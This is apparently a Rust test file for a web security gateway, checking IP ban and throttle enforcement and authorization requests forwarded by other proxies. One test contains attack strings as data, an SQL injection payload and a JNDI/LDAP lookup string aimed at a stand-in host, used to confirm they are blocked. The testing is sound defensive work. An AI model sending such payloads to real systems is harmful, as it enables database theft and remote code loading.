//! Decisions are enforced while they last; other proxies may ask for them.

use std::net::SocketAddr;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use gateway::route::{Mode, RouteSettings};
use gateway::settings::AuthzDialect;
use model::decision::{Basis, Decision, DecisionId, Measure, Origin, Standing, Target};
use model::network::Network;
use model::time::Timestamp;

use crate::support::{Does, Running, field, start, status, trust_loopback, upstream};

fn now() -> Timestamp {
    Timestamp(model::time::nanos_of(SystemTime::now().duration_since(UNIX_EPOCH).unwrap()))
}

fn decide(running: &Running, address: &str, measure: Measure, time: Duration) {
    let decision = Decision {
        id: DecisionId(1),
        target: Target::Network(Network::parse(address).unwrap()),
        measure,
        origin: Origin::Rule,
        reason: "Brute force attack".to_owned(),
        basis: Basis { rule_id: "bruteforce".to_owned(), ..Basis::default() },
        actor: "rule bruteforce".to_owned(),
        created_at: now(),
        expires_at: now().plus(time),
        standing: Standing::InForce,
        ended: None,
        is_synthetic: false,
        changed: 1,
    };
    running.board.apply(&[decision], now());
}

#[tokio::test]
async fn a_block_is_enforced_told_of_and_over_at_its_end() {
    let upstream = upstream(Does::Echo).await;
    let running = start(&[upstream.address], trust_loopback).await;
    let from = "X-Forwarded-For: 203.0.113.7\r\n";
    assert_eq!(status(&running.get("/", from).await), 200);
    decide(&running, "203.0.113.7", Measure::Ban, Duration::from_millis(1500));
    let answer = running.get("/a", from).await;
    assert_eq!((status(&answer), *upstream.connections.lock().unwrap()), (403, 1), "{answer}");
    let id = field(&answer, "x-request-id").unwrap();
    assert!(answer.contains(&format!("<code>{id}</code>")), "{answer}");
    let json = running.get("/a", &format!("{from}Accept: application/json\r\n")).await;
    let body: serde_json::Value = serde_json::from_str(json.split_once("\r\n\r\n").unwrap().1).unwrap();
    assert_eq!(body["request_id"].as_str(), field(&json, "x-request-id").as_deref());
    assert_eq!(status(&running.get("/", "X-Forwarded-For: 203.0.113.8\r\n").await), 200);

    let events = running.events(6).await;
    let block = events.iter().find(|it| it.id == id).expect("the event has the id of the request");
    assert_eq!((block.status, block.json["http.action"].as_str()), (Some(403), Some("block")));
    assert_eq!(block.json["http.decision"], "bruteforce");
    let enforced = events.iter().find(|it| it.is_finding && it.json["RequestId"] == id.as_str()).unwrap();
    assert_eq!((enforced.json["EventType"].as_u64(), enforced.client.as_str()), (Some(21), "203.0.113.7"));

    tokio::time::sleep(Duration::from_millis(1600)).await;
    assert_eq!(status(&running.get("/", from).await), 200);
}

#[tokio::test]
async fn a_throttle_lets_one_request_a_second_pass() {
    let upstream = upstream(Does::Echo).await;
    let running = start(&[upstream.address], trust_loopback).await;
    let from = "X-Forwarded-For: 2001:db8::7\r\n";
    decide(&running, "2001:db8::7", Measure::Throttle, Duration::from_secs(60));
    assert_eq!(status(&running.get("/", from).await), 200);
    let answer = running.get("/", from).await;
    assert_eq!((status(&answer), field(&answer, "retry-after").as_deref()), (429, Some("1")));
}

/// A gateway that other proxies ask, with a route that blocks and one that only observes.
async fn start_asked(dialect: AuthzDialect, upstream: SocketAddr) -> Running {
    start(&[upstream], |settings| {
        trust_loopback(settings);
        settings.authz_path = Some("/authz".to_owned());
        settings.authz_dialect = dialect;
        let of_shop = RouteSettings {
            host: Some("shop.example".to_owned()),
            mode: Mode::Block,
            ..settings.policy.routes[0].clone()
        };
        settings.policy.routes.push(of_shop);
    })
    .await
}

const NGINX: &str = "X-Original-Method: POST\r\nX-Original-URI: ";
const FORWARDED: &str = "X-Forwarded-Method: POST\r\nX-Forwarded-Host: shop.example\r\nX-Forwarded-Uri: ";

#[tokio::test]
async fn other_proxies_ask_for_a_decision() {
    let upstream = upstream(Does::Echo).await;
    for (dialect, fields) in [(AuthzDialect::Nginx, NGINX), (AuthzDialect::Forwarded, FORWARDED)] {
        let running = start_asked(dialect, upstream.address).await;
        decide(&running, "203.0.113.7", Measure::Ban, Duration::from_secs(60));
        let fields = format!("{fields}/login?a=b\r\n");
        let allowed = running.get("/authz", &format!("{fields}X-Forwarded-For: 203.0.113.8\r\n")).await;
        let refused = running.get("/authz", &format!("{fields}X-Forwarded-For: 203.0.113.7\r\n")).await;
        assert_eq!((status(&allowed), status(&refused)), (200, 403), "{fields}");
        assert_eq!(status(&running.get("/authz", "").await), 400);
        let events = running.events(2).await;
        let seen = (events[0].method.as_str(), events[0].path.as_str(), events[0].status);
        assert_eq!(seen, ("POST", "/login?a=b", None));
    }
    assert_eq!(*upstream.connections.lock().unwrap(), 0);
}

#[tokio::test]
async fn a_client_cannot_choose_what_is_asked_about() {
    const ATTACK: &str = "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20\r\n";
    let upstream = upstream(Does::Echo).await;
    for (dialect, fields, of_client) in [
        (AuthzDialect::Nginx, NGINX, "X-Forwarded-Host: other\r\nX-Original-Host: other\r\nX-Forwarded-Uri: /\r\n"),
        (AuthzDialect::Forwarded, FORWARDED, "X-Original-URI: /\r\nX-Original-Host: other\r\n"),
    ] {
        let running = start_asked(dialect, upstream.address).await;
        let answer = running.get("/authz", &format!("{of_client}{fields}{ATTACK}")).await;
        assert_eq!(status(&answer), 403, "{dialect:?}: {answer}");
        let hidden = format!("{fields}/\r\nX-Forwarded-Server: ${{jndi:ldap://203.0.113.9/a}}\r\n");
        let answer = running.get("/authz", &hidden).await;
        assert_eq!(status(&answer), 403, "what the client sent beside is inspected: {answer}");
    }
}

#[tokio::test]
async fn who_is_no_trusted_proxy_cannot_ask() {
    let upstream = upstream(Does::Echo).await;
    let running = start(&[upstream.address], |settings| settings.authz_path = Some("/authz".to_owned())).await;
    let answer = running.get("/authz", "X-Original-URI: /\r\n").await;
    assert!(answer.contains("GET /authz HTTP/1.1"), "it is a request like another: {answer}");
}
